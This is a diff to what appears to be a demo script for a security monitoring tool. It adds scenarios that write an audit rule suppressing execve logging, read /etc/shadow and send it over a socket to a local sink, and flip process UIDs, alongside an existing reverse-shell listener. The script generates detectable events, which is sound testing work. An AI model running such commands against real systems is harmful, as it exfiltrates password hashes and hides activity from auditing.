@@ -29,6 +29,7 @@ cleanup() {
   ip netns del "$ns" 2>/dev/null
   ip link del veth-wh0 2>/dev/null
   rm -f /etc/cron.d/whence-demo /etc/systemd/system/whence-demo.service /usr/local/bin/whence-demo-tool
+  rm -f /etc/audit/whence-demo-tamper.rules
   [ -f "$work/bashrc.bak" ] && cp "$work/bashrc.bak" /root/.bashrc
   if [ -f "$work/authorized_keys.bak" ]; then cp "$work/authorized_keys.bak" /root/.ssh/authorized_keys
   else rm -f /root/.ssh/authorized_keys; fi
@@ -69,12 +70,12 @@ def reverse_listener():
     s.bind(("10.203.0.2", 4444)); s.listen(1)
     c, _ = s.accept(); c.sendall(b"id\nexit\n")
     while c.recv(4096): pass
-def sink():
+def sink(port):
     s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    s.bind(("10.203.0.2", 9001)); s.listen(1)
+    s.bind(("10.203.0.2", port)); s.listen(1)
     c, _ = s.accept()
     while c.recv(4096): pass
-t = [threading.Thread(target=f) for f in (reverse_listener, sink)]
+t = [threading.Thread(target=reverse_listener)] + [threading.Thread(target=sink, args=(p,)) for p in (9001, 9002)]
 [x.start() for x in t]; [x.join(timeout=60) for x in t]
 PY
 sleep 1
@@ -178,6 +179,17 @@ rm -rf /tmp/whence-home
 
 scenario privilege-drop
 setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/id > /dev/null
+
+scenario audit-log-tamper
+if [ -d /etc/audit ]; then
+  echo '-a never,exit -F arch=b64 -S execve' > /etc/audit/whence-demo-tamper.rules && rm -f /etc/audit/whence-demo-tamper.rules
+fi
+
+scenario credential-read-then-send
+python3 -c 'import socket; d = open("/etc/shadow", "rb").read(); s = socket.create_connection(("10.203.0.2", 9002)); s.sendall(d); s.close()'
+
+scenario privilege-gain
+python3 -c 'import os; os.setresuid(65534, 65534, 0); os.setresuid(0, 0, 0)'
 
 scenario end
 sleep 3
